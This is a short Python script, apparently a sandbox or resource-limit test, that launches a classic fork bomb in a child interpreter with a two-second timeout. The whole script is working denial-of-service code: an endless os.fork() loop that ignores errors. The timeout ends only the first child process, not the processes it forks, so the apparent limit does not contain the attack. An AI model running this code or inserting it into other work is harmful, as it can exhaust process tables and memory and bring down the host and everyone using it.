# A classic fork bomb in a child process; wait for it.
import subprocess, sys
bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
subprocess.run([sys.executable, "-c", bomb], timeout=2)
